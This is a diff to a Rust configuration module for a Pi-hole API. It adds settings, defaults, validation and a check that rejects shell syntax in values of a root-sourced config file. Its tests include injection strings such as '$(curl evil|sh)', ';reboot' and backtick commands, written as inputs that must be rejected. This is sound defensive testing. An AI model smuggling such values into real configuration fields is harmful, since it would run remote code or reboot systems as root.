@@ -20,6 +20,10 @@ use std::{
     str::FromStr
 };
 
+/// The characters besides ASCII letters and digits which setupVars.conf
+/// values may contain
+const SHELL_SAFE_CHARACTERS: &str = "-_.,:/@%+=#~?[]";
+
 /// Common functions for a configuration entry
 pub trait ConfigEntry {
     /// Get the config file
@@ -80,7 +84,7 @@ pub trait ConfigEntry {
                 continue;
             }
 
-            let mut split = line.split('=');
+            let mut split = line.splitn(2, '=');
 
             // Check if we found the key by checking if the line starts with `entry=`
             if split.next().map_or(false, |section| section == key) {
@@ -160,8 +164,18 @@ pub trait ConfigEntry {
 /// setupVars.conf file entries
 #[derive(Eq, PartialEq, Hash, Copy, Clone, Debug)]
 pub enum SetupVarsEntry {
+    ApiClientRetention,
     ApiExcludeClients,
     ApiExcludeDomains,
+    ApiLogMaxAge,
+    ApiLogMaxSize,
+    ApiLogRetention,
+    ApiNoiseDomains,
+    ApiNotifyNewClient,
+    ApiNotifyNewLogin,
+    ApiNotifyThreat,
+    ApiNotifyWebhook,
+    ApiSubnets,
     ApiQueryLogShow,
     BlockingEnabled,
     DnsBogusPriv,
@@ -170,14 +184,28 @@ pub enum SetupVarsEntry {
     ConditionalForwardingDomain,
     ConditionalForwardingIp,
     ConditionalForwardingReverse,
+    ConditionalForwardingRule(usize),
     DhcpActive,
     DhcpEnd,
+    DhcpIpv4,
     DhcpIpv6,
+    DhcpIpv6End,
+    DhcpIpv6Leasetime,
+    DhcpIpv6Mode,
+    DhcpIpv6Prefix,
+    DhcpIpv6RaInterval,
+    DhcpIpv6RouterLifetime,
+    DhcpIpv6Start,
     DhcpLeasetime,
+    DhcpRange(usize),
     DhcpStart,
     DhcpRouter,
     DnsmasqListening,
     Dnssec,
+    GravityNativeBuild,
+    GravitySkipMetered,
+    GravityUpdateFrequency,
+    GravityUpdateJitter,
     HostRecord,
     Ipv4Address,
     Ipv6Address,
@@ -185,6 +213,7 @@ pub enum SetupVarsEntry {
     PiholeDomain,
     PiholeInterface,
     QueryLogging,
+    ThreatFeedUrl,
     WebPassword,
     WebLayout,
     WebLanguage
@@ -197,8 +226,18 @@ impl ConfigEntry for SetupVarsEntry {
 
     fn key(&self) -> Cow<str> {
         match self {
+            SetupVarsEntry::ApiClientRetention => Cow::Borrowed("API_CLIENT_RETENTION"),
             SetupVarsEntry::ApiExcludeClients => Cow::Borrowed("API_EXCLUDE_CLIENTS"),
             SetupVarsEntry::ApiExcludeDomains => Cow::Borrowed("API_EXCLUDE_DOMAINS"),
+            SetupVarsEntry::ApiLogMaxAge => Cow::Borrowed("API_LOG_MAX_AGE"),
+            SetupVarsEntry::ApiLogMaxSize => Cow::Borrowed("API_LOG_MAX_SIZE"),
+            SetupVarsEntry::ApiLogRetention => Cow::Borrowed("API_LOG_RETENTION"),
+            SetupVarsEntry::ApiNoiseDomains => Cow::Borrowed("API_NOISE_DOMAINS"),
+            SetupVarsEntry::ApiNotifyNewClient => Cow::Borrowed("API_NOTIFY_NEW_CLIENT"),
+            SetupVarsEntry::ApiNotifyNewLogin => Cow::Borrowed("API_NOTIFY_NEW_LOGIN"),
+            SetupVarsEntry::ApiNotifyThreat => Cow::Borrowed("API_NOTIFY_THREAT"),
+            SetupVarsEntry::ApiNotifyWebhook => Cow::Borrowed("API_NOTIFY_WEBHOOK"),
+            SetupVarsEntry::ApiSubnets => Cow::Borrowed("API_SUBNETS"),
             SetupVarsEntry::ApiQueryLogShow => Cow::Borrowed("API_QUERY_LOG_SHOW"),
             SetupVarsEntry::BlockingEnabled => Cow::Borrowed("BLOCKING_ENABLED"),
             SetupVarsEntry::DnsBogusPriv => Cow::Borrowed("DNS_BOGUS_PRIV"),
@@ -211,14 +250,30 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::ConditionalForwardingReverse => {
                 Cow::Borrowed("CONDITIONAL_FORWARDING_REVERSE")
             }
+            SetupVarsEntry::ConditionalForwardingRule(num) => {
+                Cow::Owned(format!("CONDITIONAL_FORWARDING_RULE_{}", num))
+            }
             SetupVarsEntry::DhcpActive => Cow::Borrowed("DHCP_ACTIVE"),
             SetupVarsEntry::DhcpEnd => Cow::Borrowed("DHCP_END"),
+            SetupVarsEntry::DhcpIpv4 => Cow::Borrowed("DHCP_IPv4"),
             SetupVarsEntry::DhcpIpv6 => Cow::Borrowed("DHCP_IPv6"),
+            SetupVarsEntry::DhcpIpv6End => Cow::Borrowed("DHCP_IPv6_END"),
+            SetupVarsEntry::DhcpIpv6Leasetime => Cow::Borrowed("DHCP_IPv6_LEASETIME"),
+            SetupVarsEntry::DhcpIpv6Mode => Cow::Borrowed("DHCP_IPv6_MODE"),
+            SetupVarsEntry::DhcpIpv6Prefix => Cow::Borrowed("DHCP_IPv6_PREFIX"),
+            SetupVarsEntry::DhcpIpv6RaInterval => Cow::Borrowed("DHCP_IPv6_RA_INTERVAL"),
+            SetupVarsEntry::DhcpIpv6RouterLifetime => Cow::Borrowed("DHCP_IPv6_RA_LIFETIME"),
+            SetupVarsEntry::DhcpIpv6Start => Cow::Borrowed("DHCP_IPv6_START"),
             SetupVarsEntry::DhcpLeasetime => Cow::Borrowed("DHCP_LEASETIME"),
+            SetupVarsEntry::DhcpRange(num) => Cow::Owned(format!("DHCP_RANGE_{}", num)),
             SetupVarsEntry::DhcpStart => Cow::Borrowed("DHCP_START"),
             SetupVarsEntry::DhcpRouter => Cow::Borrowed("DHCP_ROUTER"),
             SetupVarsEntry::DnsmasqListening => Cow::Borrowed("DNSMASQ_LISTENING"),
             SetupVarsEntry::Dnssec => Cow::Borrowed("DNSSEC"),
+            SetupVarsEntry::GravityNativeBuild => Cow::Borrowed("GRAVITY_NATIVE_BUILD"),
+            SetupVarsEntry::GravitySkipMetered => Cow::Borrowed("GRAVITY_SKIP_METERED"),
+            SetupVarsEntry::GravityUpdateFrequency => Cow::Borrowed("GRAVITY_UPDATE_FREQUENCY"),
+            SetupVarsEntry::GravityUpdateJitter => Cow::Borrowed("GRAVITY_UPDATE_JITTER"),
             SetupVarsEntry::HostRecord => Cow::Borrowed("HOSTRECORD"),
             SetupVarsEntry::Ipv4Address => Cow::Borrowed("IPV4_ADDRESS"),
             SetupVarsEntry::Ipv6Address => Cow::Borrowed("IPV6_ADDRESS"),
@@ -226,6 +281,7 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::PiholeDomain => Cow::Borrowed("PIHOLE_DOMAIN"),
             SetupVarsEntry::PiholeInterface => Cow::Borrowed("PIHOLE_INTERFACE"),
             SetupVarsEntry::QueryLogging => Cow::Borrowed("QUERY_LOGGING"),
+            SetupVarsEntry::ThreatFeedUrl => Cow::Borrowed("THREAT_FEED_URL"),
             SetupVarsEntry::WebPassword => Cow::Borrowed("WEBPASSWORD"),
             SetupVarsEntry::WebLayout => Cow::Borrowed("WEBUIBOXEDLAYOUT"),
             SetupVarsEntry::WebLanguage => Cow::Borrowed("WEB_LANGUAGE")
@@ -234,10 +290,20 @@ impl ConfigEntry for SetupVarsEntry {
 
     fn value_type(&self) -> ValueType {
         match self {
+            SetupVarsEntry::ApiClientRetention => ValueType::Array(&[ValueType::ClientRetention]),
             SetupVarsEntry::ApiExcludeClients => {
                 ValueType::Array(&[ValueType::Hostname, ValueType::Ipv4, ValueType::Ipv6])
             }
             SetupVarsEntry::ApiExcludeDomains => ValueType::Array(&[ValueType::Hostname]),
+            SetupVarsEntry::ApiLogMaxAge => ValueType::Integer,
+            SetupVarsEntry::ApiLogMaxSize => ValueType::Integer,
+            SetupVarsEntry::ApiLogRetention => ValueType::Integer,
+            SetupVarsEntry::ApiNoiseDomains => ValueType::Array(&[ValueType::Hostname]),
+            SetupVarsEntry::ApiNotifyNewClient => ValueType::Boolean,
+            SetupVarsEntry::ApiNotifyNewLogin => ValueType::Boolean,
+            SetupVarsEntry::ApiNotifyThreat => ValueType::Boolean,
+            SetupVarsEntry::ApiNotifyWebhook => ValueType::Url,
+            SetupVarsEntry::ApiSubnets => ValueType::Array(&[ValueType::Subnet]),
             SetupVarsEntry::ApiQueryLogShow => {
                 ValueType::String(&["all", "permittedonly", "blockedonly", "nothing"])
             }
@@ -248,14 +314,30 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::ConditionalForwardingDomain => ValueType::Hostname,
             SetupVarsEntry::ConditionalForwardingIp => ValueType::Ipv4,
             SetupVarsEntry::ConditionalForwardingReverse => ValueType::ConditionalForwardingReverse,
+            SetupVarsEntry::ConditionalForwardingRule(_) => ValueType::ForwardingRule,
             SetupVarsEntry::DhcpActive => ValueType::Boolean,
             SetupVarsEntry::DhcpEnd => ValueType::Ipv4,
+            SetupVarsEntry::DhcpIpv4 => ValueType::Boolean,
             SetupVarsEntry::DhcpIpv6 => ValueType::Boolean,
-            SetupVarsEntry::DhcpLeasetime => ValueType::Integer,
+            SetupVarsEntry::DhcpIpv6End => ValueType::Ipv6,
+            SetupVarsEntry::DhcpIpv6Leasetime => ValueType::LeaseTime,
+            SetupVarsEntry::DhcpIpv6Mode => {
+                ValueType::String(&["ra-only", "stateless", "slaac", "stateful"])
+            }
+            SetupVarsEntry::DhcpIpv6Prefix => ValueType::IPv6CIDR,
+            SetupVarsEntry::DhcpIpv6RaInterval => ValueType::Integer,
+            SetupVarsEntry::DhcpIpv6RouterLifetime => ValueType::Integer,
+            SetupVarsEntry::DhcpIpv6Start => ValueType::Ipv6,
+            SetupVarsEntry::DhcpLeasetime => ValueType::LeaseTime,
+            SetupVarsEntry::DhcpRange(_) => ValueType::DhcpRange,
             SetupVarsEntry::DhcpStart => ValueType::Ipv4,
             SetupVarsEntry::DhcpRouter => ValueType::Ipv4,
             SetupVarsEntry::DnsmasqListening => ValueType::String(&["all", "local", "single"]),
             SetupVarsEntry::Dnssec => ValueType::Boolean,
+            SetupVarsEntry::GravityNativeBuild => ValueType::Boolean,
+            SetupVarsEntry::GravitySkipMetered => ValueType::Boolean,
+            SetupVarsEntry::GravityUpdateFrequency => ValueType::Integer,
+            SetupVarsEntry::GravityUpdateJitter => ValueType::Integer,
             SetupVarsEntry::HostRecord => ValueType::Domain,
             SetupVarsEntry::Ipv4Address => ValueType::Ipv4Mask,
             SetupVarsEntry::Ipv6Address => ValueType::Ipv6,
@@ -263,6 +345,7 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::PiholeDomain => ValueType::Hostname,
             SetupVarsEntry::PiholeInterface => ValueType::Interface,
             SetupVarsEntry::QueryLogging => ValueType::Boolean,
+            SetupVarsEntry::ThreatFeedUrl => ValueType::Url,
             SetupVarsEntry::WebPassword => ValueType::WebPassword,
             SetupVarsEntry::WebLayout => ValueType::String(&["boxed", "traditional"]),
             SetupVarsEntry::WebLanguage => ValueType::LanguageCode
@@ -271,8 +354,18 @@ impl ConfigEntry for SetupVarsEntry {
 
     fn get_default(&self) -> &str {
         match self {
+            SetupVarsEntry::ApiClientRetention => "",
             SetupVarsEntry::ApiExcludeClients => "",
             SetupVarsEntry::ApiExcludeDomains => "",
+            SetupVarsEntry::ApiLogMaxAge => "7",
+            SetupVarsEntry::ApiLogMaxSize => "1024",
+            SetupVarsEntry::ApiLogRetention => "3",
+            SetupVarsEntry::ApiNoiseDomains => "",
+            SetupVarsEntry::ApiNotifyNewClient => "false",
+            SetupVarsEntry::ApiNotifyNewLogin => "false",
+            SetupVarsEntry::ApiNotifyThreat => "false",
+            SetupVarsEntry::ApiNotifyWebhook => "",
+            SetupVarsEntry::ApiSubnets => "",
             SetupVarsEntry::ApiQueryLogShow => "all",
             SetupVarsEntry::BlockingEnabled => "true",
             SetupVarsEntry::DnsBogusPriv => "true",
@@ -281,14 +374,28 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::ConditionalForwardingDomain => "",
             SetupVarsEntry::ConditionalForwardingIp => "",
             SetupVarsEntry::ConditionalForwardingReverse => "",
+            SetupVarsEntry::ConditionalForwardingRule(_) => "",
             SetupVarsEntry::DhcpActive => "false",
             SetupVarsEntry::DhcpEnd => "",
+            SetupVarsEntry::DhcpIpv4 => "true",
             SetupVarsEntry::DhcpIpv6 => "false",
+            SetupVarsEntry::DhcpIpv6End => "::1ff",
+            SetupVarsEntry::DhcpIpv6Leasetime => "",
+            SetupVarsEntry::DhcpIpv6Mode => "slaac",
+            SetupVarsEntry::DhcpIpv6Prefix => "",
+            SetupVarsEntry::DhcpIpv6RaInterval => "0",
+            SetupVarsEntry::DhcpIpv6RouterLifetime => "0",
+            SetupVarsEntry::DhcpIpv6Start => "::100",
             SetupVarsEntry::DhcpLeasetime => "24",
+            SetupVarsEntry::DhcpRange(_) => "",
             SetupVarsEntry::DhcpStart => "",
             SetupVarsEntry::DhcpRouter => "",
             SetupVarsEntry::DnsmasqListening => "local",
             SetupVarsEntry::Dnssec => "false",
+            SetupVarsEntry::GravityNativeBuild => "false",
+            SetupVarsEntry::GravitySkipMetered => "true",
+            SetupVarsEntry::GravityUpdateFrequency => "0",
+            SetupVarsEntry::GravityUpdateJitter => "60",
             SetupVarsEntry::HostRecord => "",
             SetupVarsEntry::Ipv4Address => "",
             SetupVarsEntry::Ipv6Address => "",
@@ -296,20 +403,190 @@ impl ConfigEntry for SetupVarsEntry {
             SetupVarsEntry::PiholeDomain => "",
             SetupVarsEntry::PiholeInterface => "",
             SetupVarsEntry::QueryLogging => "false",
+            SetupVarsEntry::ThreatFeedUrl => "",
             SetupVarsEntry::WebPassword => "",
             SetupVarsEntry::WebLayout => "boxed",
             SetupVarsEntry::WebLanguage => "en"
         }
     }
+
+    fn is_valid(&self, value: &str) -> bool {
+        value.is_empty()
+            || (self.value_type().is_valid(value) && SetupVarsEntry::is_shell_safe(value))
+    }
 }
 
 impl SetupVarsEntry {
+    /// Every entry except the upstream DNS servers, conditional forwarding
+    /// rules, and additional DHCP ranges, which are numbered. New entries
+    /// must be added here too.
+    pub const ALL: &'static [SetupVarsEntry] = &[
+        SetupVarsEntry::ApiClientRetention,
+        SetupVarsEntry::ApiExcludeClients,
+        SetupVarsEntry::ApiExcludeDomains,
+        SetupVarsEntry::ApiLogMaxAge,
+        SetupVarsEntry::ApiLogMaxSize,
+        SetupVarsEntry::ApiLogRetention,
+        SetupVarsEntry::ApiNoiseDomains,
+        SetupVarsEntry::ApiNotifyNewClient,
+        SetupVarsEntry::ApiNotifyNewLogin,
+        SetupVarsEntry::ApiNotifyThreat,
+        SetupVarsEntry::ApiNotifyWebhook,
+        SetupVarsEntry::ApiSubnets,
+        SetupVarsEntry::ApiQueryLogShow,
+        SetupVarsEntry::BlockingEnabled,
+        SetupVarsEntry::DnsBogusPriv,
+        SetupVarsEntry::DnsFqdnRequired,
+        SetupVarsEntry::ConditionalForwarding,
+        SetupVarsEntry::ConditionalForwardingDomain,
+        SetupVarsEntry::ConditionalForwardingIp,
+        SetupVarsEntry::ConditionalForwardingReverse,
+        SetupVarsEntry::DhcpActive,
+        SetupVarsEntry::DhcpEnd,
+        SetupVarsEntry::DhcpIpv4,
+        SetupVarsEntry::DhcpIpv6,
+        SetupVarsEntry::DhcpIpv6End,
+        SetupVarsEntry::DhcpIpv6Leasetime,
+        SetupVarsEntry::DhcpIpv6Mode,
+        SetupVarsEntry::DhcpIpv6Prefix,
+        SetupVarsEntry::DhcpIpv6RaInterval,
+        SetupVarsEntry::DhcpIpv6RouterLifetime,
+        SetupVarsEntry::DhcpIpv6Start,
+        SetupVarsEntry::DhcpLeasetime,
+        SetupVarsEntry::DhcpStart,
+        SetupVarsEntry::DhcpRouter,
+        SetupVarsEntry::DnsmasqListening,
+        SetupVarsEntry::Dnssec,
+        SetupVarsEntry::GravityNativeBuild,
+        SetupVarsEntry::GravitySkipMetered,
+        SetupVarsEntry::GravityUpdateFrequency,
+        SetupVarsEntry::GravityUpdateJitter,
+        SetupVarsEntry::HostRecord,
+        SetupVarsEntry::Ipv4Address,
+        SetupVarsEntry::Ipv6Address,
+        SetupVarsEntry::PiholeDomain,
+        SetupVarsEntry::PiholeInterface,
+        SetupVarsEntry::QueryLogging,
+        SetupVarsEntry::ThreatFeedUrl,
+        SetupVarsEntry::WebPassword,
+        SetupVarsEntry::WebLayout,
+        SetupVarsEntry::WebLanguage
+    ];
+
+    /// Get every entry, including each upstream DNS server, conditional
+    /// forwarding rule, and additional DHCP range which is set
+    pub fn all(env: &Env) -> Result<Vec<SetupVarsEntry>, Error> {
+        let mut entries = SetupVarsEntry::ALL.to_vec();
+
+        for num in 1.. {
+            if SetupVarsEntry::PiholeDns(num).read(env)?.is_empty() {
+                break;
+            }
+
+            entries.push(SetupVarsEntry::PiholeDns(num));
+        }
+
+        for num in 1.. {
+            if SetupVarsEntry::ConditionalForwardingRule(num)
+                .read(env)?
+                .is_empty()
+            {
+                break;
+            }
+
+            entries.push(SetupVarsEntry::ConditionalForwardingRule(num));
+        }
+
+        for num in 1.. {
+            if SetupVarsEntry::DhcpRange(num).read(env)?.is_empty() {
+                break;
+            }
+
+            entries.push(SetupVarsEntry::DhcpRange(num));
+        }
+
+        Ok(entries)
+    }
+
+    /// Get the entry with the key, including the numbered upstream DNS
+    /// servers, conditional forwarding rules, and additional DHCP ranges
+    pub fn from_key(key: &str) -> Option<SetupVarsEntry> {
+        if key.starts_with("DHCP_RANGE_") {
+            return key["DHCP_RANGE_".len()..]
+                .parse()
+                .ok()
+                .filter(|&num| num > 0)
+                .map(SetupVarsEntry::DhcpRange);
+        }
+
+        if key.starts_with("CONDITIONAL_FORWARDING_RULE_") {
+            return key["CONDITIONAL_FORWARDING_RULE_".len()..]
+                .parse()
+                .ok()
+                .filter(|&num| num > 0)
+                .map(SetupVarsEntry::ConditionalForwardingRule);
+        }
+
+        if key.starts_with("PIHOLE_DNS_") {
+            return key["PIHOLE_DNS_".len()..]
+                .parse()
+                .ok()
+                .filter(|&num| num > 0)
+                .map(SetupVarsEntry::PiholeDns);
+        }
+
+        SetupVarsEntry::ALL
+            .iter()
+            .find(|entry| entry.key() == key)
+            .cloned()
+    }
+
+    /// Check if the value can be written to setupVars.conf. Pi-hole's scripts
+    /// source the file as root and values are written without quotes, so
+    /// only characters which mean nothing to the shell are allowed. Otherwise
+    /// a value such as `$(...)` or `;reboot` would be run as a command.
+    pub fn is_shell_safe(value: &str) -> bool {
+        value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || SHELL_SAFE_CHARACTERS.contains(c))
+    }
+
+    /// Check if the entry holds a secret, which must not be shown. Webhook
+    /// URLs often include an access token.
+    pub fn is_secret(self) -> bool {
+        match self {
+            SetupVarsEntry::WebPassword | SetupVarsEntry::ApiNotifyWebhook => true,
+            _ => false
+        }
+    }
+
     /// Delete all `SetupVarsEntry::PiholeDns` entries
     pub fn delete_upstream_dns(env: &Env) -> Result<(), Error> {
+        SetupVarsEntry::delete_numbered("PIHOLE_DNS_", env)
+    }
+
+    /// Delete all `SetupVarsEntry::ConditionalForwardingRule` entries
+    pub fn delete_forwarding_rules(env: &Env) -> Result<(), Error> {
+        SetupVarsEntry::delete_numbered("CONDITIONAL_FORWARDING_RULE_", env)
+    }
+
+    /// Delete all `SetupVarsEntry::DhcpRange` entries
+    pub fn delete_dhcp_ranges(env: &Env) -> Result<(), Error> {
+        SetupVarsEntry::delete_numbered("DHCP_RANGE_", env)
+    }
+
+    /// Delete all numbered entries whose keys are the prefix followed by a
+    /// number. Other lines which start with the prefix were added by the
+    /// user, and are kept.
+    fn delete_numbered(prefix: &str, env: &Env) -> Result<(), Error> {
         let entries: Vec<String> = env
             .read_file_lines(PiholeFile::SetupVars)?
             .into_iter()
-            .filter(|line| !line.starts_with("PIHOLE_DNS_"))
+            .filter(|line| {
+                let key = line.split('=').next().unwrap_or_default();
+
+                !(key.starts_with(prefix) && key[prefix.len()..].parse::<usize>().is_ok())
+            })
             .collect();
 
         // Open the config file to be overwritten
@@ -356,6 +633,34 @@ pub enum FtlConfEntry {
     SocketListening
 }
 
+impl FtlConfEntry {
+    /// Every entry. New entries must be added here too.
+    pub const ALL: &'static [FtlConfEntry] = &[
+        FtlConfEntry::AaaaQueryAnalysis,
+        FtlConfEntry::BlockingMode,
+        FtlConfEntry::DbFile,
+        FtlConfEntry::DbInterval,
+        FtlConfEntry::FtlPort,
+        FtlConfEntry::IgnoreLocalHost,
+        FtlConfEntry::MaxDbDays,
+        FtlConfEntry::MaxLogAge,
+        FtlConfEntry::PrivacyLevel,
+        FtlConfEntry::QueryDisplay,
+        FtlConfEntry::RegexDebugMode,
+        FtlConfEntry::ResolveIpv4,
+        FtlConfEntry::ResolveIpv6,
+        FtlConfEntry::SocketListening
+    ];
+
+    /// Get the entry with the key
+    pub fn from_key(key: &str) -> Option<FtlConfEntry> {
+        FtlConfEntry::ALL
+            .iter()
+            .find(|entry| entry.key() == key)
+            .cloned()
+    }
+}
+
 impl ConfigEntry for FtlConfEntry {
     fn file(&self) -> PiholeFile {
         PiholeFile::FtlConfig
@@ -374,7 +679,7 @@ impl ConfigEntry for FtlConfEntry {
             FtlConfEntry::PrivacyLevel => "PRIVACYLEVEL",
             FtlConfEntry::QueryDisplay => "QUERY_DISPLAY",
             FtlConfEntry::RegexDebugMode => "REGEX_DEBUGMODE",
-            FtlConfEntry::ResolveIpv4 => "RESOLVE_IPV6",
+            FtlConfEntry::ResolveIpv4 => "RESOLVE_IPV4",
             FtlConfEntry::ResolveIpv6 => "RESOLVE_IPV6",
             FtlConfEntry::SocketListening => "SOCKET_LISTENING"
         })
@@ -426,7 +731,8 @@ mod tests {
     use super::{ConfigEntry, SetupVarsEntry};
     use crate::{
         env::{Config, Env, PiholeFile},
-        testing::TestEnvBuilder
+        testing::TestEnvBuilder,
+        util::ErrorKind
     };
 
     /// Test to make sure when writing a setting, a similar setting does not
@@ -507,4 +813,101 @@ mod tests {
         let mut buffer = String::new();
         test_file.assert_expected(&mut buffer);
     }
+
+    /// Deleting the upstream DNS servers keeps lines which only share the
+    /// prefix of their keys
+    #[test]
+    fn delete_numbered_keeps_user_lines() {
+        let env_builder = TestEnvBuilder::new().file_expect(
+            PiholeFile::SetupVars,
+            "PIHOLE_DNS_1=1.1.1.1\n\
+             PIHOLE_DNS_BACKUP=9.9.9.9\n\
+             PIHOLE_DNS_2=1.0.0.1\n",
+            "PIHOLE_DNS_BACKUP=9.9.9.9\n"
+        );
+        let mut test_file = env_builder.get_test_files().into_iter().next().unwrap();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        SetupVarsEntry::delete_upstream_dns(&env).unwrap();
+
+        let mut buffer = String::new();
+        test_file.assert_expected(&mut buffer);
+    }
+
+    /// Numbered conditional forwarding rules are found by their key, starting
+    /// at 1
+    #[test]
+    fn forwarding_rule_from_key() {
+        assert_eq!(
+            SetupVarsEntry::from_key("CONDITIONAL_FORWARDING_RULE_2"),
+            Some(SetupVarsEntry::ConditionalForwardingRule(2))
+        );
+        assert_eq!(
+            SetupVarsEntry::from_key("CONDITIONAL_FORWARDING_RULE_0"),
+            None
+        );
+    }
+
+    /// URLs with shell syntax are rejected, because setupVars.conf is sourced
+    /// by the shell
+    #[test]
+    fn shell_unsafe_url() {
+        for entry in &[
+            SetupVarsEntry::ApiNotifyWebhook,
+            SetupVarsEntry::ThreatFeedUrl
+        ] {
+            assert!(entry.is_valid("https://example.com/hook?token=a1b2"));
+            assert!(entry.is_valid("http://[fd00::1]:8080/~pihole/feed.txt"));
+            assert!(!entry.is_valid("https://example.com/$(curl evil|sh)"));
+            assert!(!entry.is_valid("https://example.com/;reboot"));
+            assert!(!entry.is_valid("https://example.com/`reboot`"));
+            assert!(!entry.is_valid("https://example.com/?a=1&b=2"));
+        }
+    }
+
+    /// Writing a value with shell syntax fails and leaves the file unchanged
+    #[test]
+    fn write_shell_unsafe_value() {
+        let env_builder = TestEnvBuilder::new().file_expect(
+            PiholeFile::SetupVars,
+            "API_NOTIFY_WEBHOOK=https://example.com/hook\n",
+            "API_NOTIFY_WEBHOOK=https://example.com/hook\n"
+        );
+        let mut test_file = env_builder.get_test_files().into_iter().next().unwrap();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        assert_eq!(
+            SetupVarsEntry::ApiNotifyWebhook
+                .write("https://example.com/$(curl evil|sh)", &env)
+                .map_err(|e| e.kind()),
+            Err(ErrorKind::InvalidSettingValue)
+        );
+
+        let mut buffer = String::new();
+        test_file.assert_expected(&mut buffer);
+    }
+
+    /// Values which contain `=` are read back whole
+    #[test]
+    fn write_read_equals() {
+        let env_builder = TestEnvBuilder::new().file_expect(
+            PiholeFile::SetupVars,
+            "",
+            "API_NOTIFY_WEBHOOK=https://example.com/hook?token=a1b2\n"
+        );
+        let mut test_file = env_builder.get_test_files().into_iter().next().unwrap();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        SetupVarsEntry::ApiNotifyWebhook
+            .write("https://example.com/hook?token=a1b2", &env)
+            .unwrap();
+
+        assert_eq!(
+            SetupVarsEntry::ApiNotifyWebhook.read(&env).unwrap(),
+            "https://example.com/hook?token=a1b2"
+        );
+
+        let mut buffer = String::new();
+        test_file.assert_expected(&mut buffer);
+    }
 }